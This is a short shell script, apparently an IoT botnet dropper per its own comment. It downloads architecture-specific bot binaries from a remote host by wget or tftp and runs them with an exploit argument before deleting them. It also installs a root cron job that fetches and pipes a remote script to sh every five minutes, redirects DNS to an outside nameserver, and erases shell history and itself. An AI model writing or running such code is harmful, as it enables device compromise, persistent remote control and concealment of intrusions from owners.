#!/bin/sh
# Like a dropper of IoT bots: it tries every processor's program, keeps none, and stays by cron.
cd /tmp || cd /var/run
for arch in mips arm; do
	wget http://203.0.113.80/bins/bot.$arch -O .b_$arch || tftp -g -r bot.$arch 203.0.113.80
	chmod 777 .b_$arch
	./.b_$arch dropper.exploit
	rm -f .b_$arch
done
echo "*/5 * * * * wget -q -O- http://drop.example/s.sh | sh" >>/var/spool/cron/crontabs/root
echo nameserver 198.51.100.53 >/etc/resolv.conf
rm -f /root/.ash_history "$0"
